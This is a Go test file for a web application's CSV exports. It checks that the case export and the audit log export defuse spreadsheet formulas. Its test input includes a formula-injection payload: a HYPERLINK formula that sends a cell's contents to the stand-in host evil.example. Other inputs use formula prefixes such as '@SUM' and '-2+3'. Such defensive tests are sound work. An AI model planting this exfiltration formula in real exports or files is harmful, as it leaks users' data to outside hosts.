package web_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/gongkai/gongkai/internal/calendar"
	"github.com/gongkai/gongkai/internal/demo"
	"github.com/gongkai/gongkai/internal/store"
)

// TestExportsDefuseFormulas records an application whose applicant typed
// formulas into every field a spreadsheet might run, and checks that no
// cell of the case export nor of the audit log export starts with a
// formula character: the ID number's formula used to survive masking.
func TestExportsDefuseFormulas(t *testing.T) {
	seeded.ForEach(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		office := "/office/a/" + strconv.FormatInt(e.ids[demo.Bureau], 10)
		officer, admin := e.login("spj-officer"), e.login("spj-admin")
		const formula = `=HYPERLINK("http://evil.example/?"&A1,"点击")`
		form := applicationForm()
		form.Set("name", "@SUM(A1:A9)")
		form.Set("id_type", "other")
		form.Set("id_number", formula)
		form.Set("email", "-2+3@example.cn")
		form.Set("channel", "registered_post")
		form.Set("received", calendar.DateOf(e.now).String())
		res, body := officer.post(office+"/cases", form)
		wantStatus(t, "staff entry", res, body, http.StatusSeeOther)

		for _, path := range []string{office + "/cases.csv", office + "/audit.csv"} {
			c := officer
			if strings.HasSuffix(path, "audit.csv") {
				c = admin
			}
			res, body := c.get(path)
			if res.StatusCode != http.StatusOK {
				t.Fatalf("%s: %d", path, res.StatusCode)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			defused := 0
			for i, row := range rows {
				for j, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						if _, err := strconv.ParseFloat(cell, 64); err != nil {
							t.Errorf("%s row %d column %d: %q would run as a formula", path, i+1, j+1, cell)
						}
					}
					if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'@") || strings.HasPrefix(cell, "'-") {
						defused++
					}
				}
			}
			// The case export holds the name, the masked ID number and the
			// e-mail address defused; the audit log's entries are masked JSON.
			if strings.HasSuffix(path, "cases.csv") && defused != 3 {
				t.Errorf("%s: %d defused cells, want 3:\n%s", path, defused, body)
			}
		}
	})
}
